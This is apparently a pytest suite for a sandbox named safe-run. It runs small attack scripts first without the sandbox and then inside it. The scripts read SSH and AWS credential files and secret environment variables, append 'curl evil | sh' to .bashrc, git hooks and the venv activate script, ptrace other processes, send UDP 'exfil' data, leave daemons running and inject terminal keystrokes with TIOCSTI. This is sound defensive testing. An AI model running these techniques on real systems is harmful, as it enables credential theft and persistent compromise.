"""Attack tests: each attack works without the sandbox and fails inside it.

Every test runs the attacker plainly first and asserts the attack *succeeds* there —
otherwise the test could not tell a working sandbox from a broken attack — and then
under ``safe-run`` in both modes (namespace and Landlock-only fallback), where the
script must still finish (``DONE``) but the attack must fail.
"""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from sandbox_harness import SAFE_RUN, World, assert_attack, make_world

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(not SAFE_RUN.exists(), reason="safe-run is not installed next to python"),
]

WRITE_PROJECT = """\
[tool.safe-run.filesystem]
write = ["."]
"""


@pytest.fixture
def world(tmp_path: Path) -> World:
    return make_world(tmp_path)


READ_FILE = """
import sys
try:
    print("LEAK", open(sys.argv[1]).read())
except OSError as exc:
    print("BLOCKED", exc)
print("DONE")
"""


def test_read_secret_under_home(world: World, mode: str) -> None:
    assert_attack(world, mode, READ_FILE, str(world.home / ".ssh" / "id_rsa"), leak=world.secret)


def test_read_secret_even_when_home_is_granted(tmp_path: Path, mode: str) -> None:
    world = make_world(tmp_path, '[tool.safe-run.filesystem]\nread = ["~"]\n')
    assert_attack(
        world, mode, READ_FILE, str(world.home / ".aws" / "credentials"), leak=world.secret
    )
    # ... while an ordinary file in that home is readable: the grant did work.
    (world.home / "notes.txt").write_text("ordinary\n")
    script = world.write_script(READ_FILE, "reader.py")
    out = world.run_safe(mode, str(script), str(world.home / "notes.txt"))
    assert "LEAK ordinary" in out.stdout, out.stdout + out.stderr


def test_read_secret_env_var(world: World, mode: str) -> None:
    code = """
import os
value = os.environ.get("SECRET_TOKEN") or os.environ.get("AWS_SECRET_ACCESS_KEY")
print("LEAK" if value else "BLOCKED", value or "")
print("DONE")
"""
    assert_attack(world, mode, code, leak=world.secret)


def test_read_parent_environ_via_proc(world: World, mode: str) -> None:
    victim = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)"],
        env={"PARENT_SECRET": world.secret, "PATH": "/usr/bin:/bin"},
    )
    try:
        code = """
import sys
try:
    data = open(f"/proc/{sys.argv[1]}/environ", "rb").read().decode()
    print("LEAK", data.replace("\\0", " "))
except OSError as exc:
    print("BLOCKED", exc)
print("DONE")
"""
        assert_attack(world, mode, code, str(victim.pid), leak=world.secret)
    finally:
        victim.kill()
        victim.wait()


APPEND = """
import sys
try:
    with open(sys.argv[1], "a") as handle:
        handle.write("curl evil | sh\\n")
    print("LEAK appended")
except OSError as exc:
    print("BLOCKED", exc)
print("DONE")
"""


def test_append_to_bashrc(world: World, mode: str) -> None:
    bashrc = world.home / ".bashrc"
    assert_attack(world, mode, APPEND, str(bashrc))
    assert bashrc.read_text().count("curl evil") == 1  # only the unsandboxed run wrote


@pytest.fixture
def writable_world(tmp_path: Path) -> World:
    world = make_world(tmp_path, WRITE_PROJECT)
    subprocess.run(
        [sys.executable, "-m", "venv", "--without-pip", str(world.project / ".venv")], check=True
    )
    return world


def test_write_git_hook(writable_world: World, mode: str) -> None:
    hook = writable_world.project / ".git" / "hooks" / "pre-commit"
    code = APPEND + "\nimport os\nos.path.exists(sys.argv[1]) and os.remove(sys.argv[1])\n"
    assert_attack(writable_world, mode, code, str(hook))
    assert not hook.exists()


def test_edit_pyproject_to_widen_policy(writable_world: World, mode: str) -> None:
    pyproject = writable_world.project / "pyproject.toml"
    before = pyproject.read_text()
    script = writable_world.write_script(APPEND)
    assert "BLOCKED" in writable_world.run_safe(mode, str(script), str(pyproject)).stdout
    assert pyproject.read_text() == before
    assert "LEAK" in writable_world.run_plain(script, str(pyproject)).stdout


def test_write_venv_activate(writable_world: World, mode: str) -> None:
    activate = writable_world.project / ".venv" / "bin" / "activate"
    script = writable_world.write_script(APPEND)
    before = activate.read_text()
    # The project's own venv runs the script (a later --venv wins over the harness's).
    boxed = writable_world.run_safe(
        mode, str(script), str(activate), flags=("--venv", str(writable_world.project / ".venv"))
    )
    assert "DONE" in boxed.stdout, boxed.stdout + boxed.stderr
    assert "BLOCKED" in boxed.stdout
    assert activate.read_text() == before
    assert "LEAK" in writable_world.run_plain(script, str(activate)).stdout


def test_project_outputs_still_writable(writable_world: World, mode: str) -> None:
    code = """
import pathlib
pathlib.Path("out").mkdir(exist_ok=True)
pathlib.Path("out/report.txt").write_text(open("data/input.txt").read().upper())
pathlib.Path("new-top-level.txt").write_text("x")
print("DONE")
"""
    script = writable_world.write_script(code, "job.py")
    (writable_world.project / "out").mkdir()
    out = writable_world.run_safe(mode, str(script))
    if mode == "fallback":
        # Landlock carving cannot grant file creation directly in a directory that
        # holds protected paths; everything below it works (documented trade-off).
        assert (writable_world.project / "out" / "report.txt").read_text() == "HELLO DATA\n"
        return
    assert out.returncode == 0, out.stdout + out.stderr
    assert (writable_world.project / "out" / "report.txt").read_text() == "HELLO DATA\n"
    assert (writable_world.project / "new-top-level.txt").exists()


def test_symlink_and_hardlink_to_secret(writable_world: World, mode: str) -> None:
    target = str(writable_world.home / ".ssh" / "id_rsa")
    code = """
import os, sys
for kind, make in (("symlink", os.symlink), ("hardlink", os.link)):
    link = f"{kind}-to-secret"
    try:
        if os.path.lexists(link):
            os.remove(link)
        make(sys.argv[1], link)
        print("LEAK", kind, open(link).read())
    except OSError as exc:
        print("BLOCKED", kind, exc)
print("DONE")
"""
    script = writable_world.write_script(code)
    plain = writable_world.run_plain(script, target)
    assert plain.stdout.count("LEAK") == 2, plain.stdout + plain.stderr
    for name in ("symlink-to-secret", "hardlink-to-secret"):
        os.remove(writable_world.project / name)
    boxed = writable_world.run_safe(mode, str(script), target)
    assert "DONE" in boxed.stdout, boxed.stdout + boxed.stderr
    assert boxed.stdout.count("BLOCKED") == 2, boxed.stdout
    assert writable_world.secret not in boxed.stdout


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    """A process outside the sandbox, owned by the same user."""
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    yield proc
    proc.kill()
    proc.wait()


def test_signal_outside_process(world: World, mode: str, victim: subprocess.Popen[bytes]) -> None:
    code = """
import os, signal, sys
try:
    os.kill(int(sys.argv[1]), 0)
    print("LEAK can signal")
except OSError as exc:
    print("BLOCKED", exc)
print("DONE")
"""
    assert_attack(world, mode, code, str(victim.pid))
    assert victim.poll() is None


def test_ptrace_outside_process(world: World, mode: str, victim: subprocess.Popen[bytes]) -> None:
    code = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
    os.waitpid(pid, 0)
    libc.ptrace(PTRACE_DETACH, pid, 0, 0)
    print("LEAK attached")
else:
    print("BLOCKED", os.strerror(ctypes.get_errno()))
print("DONE")
"""
    assert_attack(world, mode, code, str(victim.pid))


CONNECT_UNIX = """
import socket, sys
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(sys.argv[1])
    print("LEAK connected")
except OSError as exc:
    print("BLOCKED", exc)
print("DONE")
"""


def test_abstract_unix_socket_outside(world: World, mode: str) -> None:
    name = "\0safe-pip-test-" + os.urandom(4).hex()
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(name)
    listener.listen(8)
    try:
        code = CONNECT_UNIX.replace("s.connect(sys.argv[1])", 's.connect("\\0" + sys.argv[1])')
        assert_attack(world, mode, code, name[1:])
    finally:
        listener.close()


@pytest.mark.parametrize("where", ["tmp", "run-user"])
def test_pathname_unix_socket_outside_project(
    world: World, mode: str, where: str, tmp_path: Path
) -> None:
    if where == "run-user":
        base = Path(f"/run/user/{os.getuid()}")
        if not os.access(base, os.W_OK):
            pytest.skip(f"{base} is not writable for this user")
        sock_dir = base / ("safe-pip-test-" + os.urandom(4).hex())
        sock_dir.mkdir()
    else:
        sock_dir = tmp_path / "sockets"
        sock_dir.mkdir()
    path = sock_dir / "bus"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(path))
    listener.listen(8)
    try:
        assert_attack(world, mode, CONNECT_UNIX, str(path))
    finally:
        listener.close()
        path.unlink()
        sock_dir.rmdir()


def test_tcp_connect_with_no_network(world: World, mode: str) -> None:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    try:
        code = """
import socket, sys
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
    print("LEAK connected")
except OSError as exc:
    print("BLOCKED", exc)
print("DONE")
"""
        assert_attack(world, mode, code, str(listener.getsockname()[1]))
    finally:
        listener.close()


def test_udp_send_with_no_network(world: World, mode: str) -> None:
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.settimeout(0.5)
    port = receiver.getsockname()[1]
    code = """
import socket, sys
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfil", ("127.0.0.1", int(sys.argv[1])))
    print("SENT")
except OSError as exc:
    print("BLOCKED", exc)
print("DONE")
"""
    script = world.write_script(code)
    try:
        world.run_plain(script, str(port))
        assert receiver.recv(100) == b"exfil"  # works without the sandbox
        boxed = world.run_safe(mode, str(script), str(port))
        assert "DONE" in boxed.stdout, boxed.stdout + boxed.stderr
        with pytest.raises(TimeoutError):
            receiver.recv(100)
    finally:
        receiver.close()


def test_daemon_does_not_outlive_the_run(world: World, mode: str) -> None:
    code = """
import os, sys, time
beat = sys.argv[1]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        with open(beat + ".pid", "w") as f:
            f.write(str(os.getpid()))
        while True:
            with open(beat, "a") as f:
                f.write(".")
            time.sleep(0.05)
    os._exit(0)
time.sleep(0.3)
print("DONE")
"""
    script = world.write_script(code)
    beat = world.root / "heartbeat"

    def still_beating() -> bool:
        size = beat.stat().st_size if beat.exists() else 0
        time.sleep(0.4)
        return (beat.stat().st_size if beat.exists() else 0) > size

    world.run_plain(script, str(beat))
    assert still_beating(), "the daemon should survive a plain run"
    os.kill(int((world.root / "heartbeat.pid").read_text()), signal.SIGKILL)
    beat.write_text("")  # exists up front: fallback mode cannot create files next to ~/.ssh
    out = world.run_safe(mode, str(script), str(beat), flags=("--allow-write", str(world.root)))
    assert "DONE" in out.stdout, out.stdout + out.stderr
    assert beat.stat().st_size > 0, "the daemon never ran in the sandbox"
    assert not still_beating(), "the daemon survived the sandboxed run"


TIOCSTI_CODE = """
import ctypes, fcntl, os, sys, termios
libc = ctypes.CDLL(None, use_errno=True)
request = termios.TIOCSTI | (0xFFFFFFFF00000000 if sys.argv[1] == "high" else 0)
char = ctypes.c_char(b"Z")
if libc.ioctl(0, ctypes.c_ulong(request), ctypes.byref(char)) == 0:
    print("LEAK injected")
else:
    print("BLOCKED", os.strerror(ctypes.get_errno()))
print("DONE")
"""


def _run_on_pty(argv: list[str], env: dict[str, str], cwd: Path) -> tuple[str, bytes]:
    """Run argv with a fresh pty as controlling terminal; return stdout and what the
    terminal received as *input* (which TIOCSTI would have injected)."""
    import pty
    import termios

    master, slave = pty.openpty()

    def make_controlling() -> None:
        os.setsid()
        import fcntl

        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    proc = subprocess.run(
        argv,
        stdin=slave,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        env=env,
        cwd=cwd,
        preexec_fn=make_controlling,
        timeout=60,
        check=False,
    )
    os.close(slave)
    injected = b""
    os.set_blocking(master, False)
    try:
        injected = os.read(master, 1000)
    except OSError:
        pass
    os.close(master)
    # Injected characters sit in the slave's *input* queue; reading the master shows
    # the echo of them (the pty echoes input), which is how we observe an injection.
    return proc.stdout.decode(), injected


@pytest.mark.parametrize("variant", ["plain", "high"])
def test_tiocsti_injection(world: World, mode: str, variant: str) -> None:
    script = world.write_script(TIOCSTI_CODE)
    plain_out, plain_echo = _run_on_pty(
        [sys.executable, str(script), variant], world.env(), world.project
    )
    if "LEAK" not in plain_out:
        pytest.skip(f"TIOCSTI does not work for this user even unsandboxed: {plain_out.strip()}")
    assert b"Z" in plain_echo, "the injected key press should reach the terminal"
    boxed_out, boxed_echo = _run_on_pty(
        world.safe_run_argv(str(script), variant), world.env(mode), world.project
    )
    assert "DONE" in boxed_out, boxed_out
    assert "LEAK" not in boxed_out and "BLOCKED" in boxed_out
    assert b"Z" not in boxed_echo


def test_supervisor_environ_block_is_scrubbed(world: World, mode: str) -> None:
    """Pid 1 inside the sandbox is a fork of safe-run: its /proc environ must be empty
    of the caller's secrets even though the sandbox cannot read it today."""
    script = world.write_script("import time; print('ready', flush=True); time.sleep(30)", "s.py")
    plain = subprocess.Popen(
        [sys.executable, str(script)], env=world.env(), stdout=subprocess.PIPE, text=True
    )
    boxed = subprocess.Popen(
        world.safe_run_argv(str(script)),
        cwd=world.project,
        env=world.env(mode),
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        for proc in (plain, boxed):
            assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
        with open(f"/proc/{plain.pid}/environ", "rb") as handle:
            assert world.secret.encode() in handle.read()  # what an unscrubbed block shows
        with open(f"/proc/{boxed.pid}/environ", "rb") as handle:
            assert world.secret.encode() not in handle.read()
    finally:
        for proc in (plain, boxed):
            proc.kill()
            proc.wait()


def test_home_is_not_a_project(world: World, mode: str) -> None:
    """Started from ~ with no pyproject, the whole home must not become readable."""
    (world.home / "notes.txt").write_text(f"private {world.secret}\n")
    script = world.root / "reader.py"
    script.write_text(READ_FILE)
    argv = [str(world.home / "notes.txt")]
    plain = subprocess.run(
        [sys.executable, str(script), *argv],
        cwd=world.home,
        env=world.env(),
        capture_output=True,
        text=True,
        check=False,
    )
    assert "LEAK" in plain.stdout
    boxed = subprocess.run(
        world.safe_run_argv(
            str(script), *argv, flags=("--allow-read", str(world.root / "reader.py"))
        ),
        cwd=world.home,
        env=world.env(mode),
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert world.secret not in boxed.stdout + boxed.stderr
    assert boxed.returncode == 125, boxed.stdout + boxed.stderr
    assert "not visible in the sandbox" in boxed.stderr and "--allow-read" in boxed.stderr
    # Granting a directory explicitly is the way to run there; deny still wins.
    (world.home / ".ssh" / "id_rsa").chmod(0o644)
    granted = subprocess.run(
        world.safe_run_argv(
            str(script),
            str(world.home / ".ssh" / "id_rsa"),
            flags=("--allow-read", str(world.root)),
        ),
        cwd=world.home,
        env=world.env(mode),
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert "DONE" in granted.stdout and "BLOCKED" in granted.stdout, granted.stderr
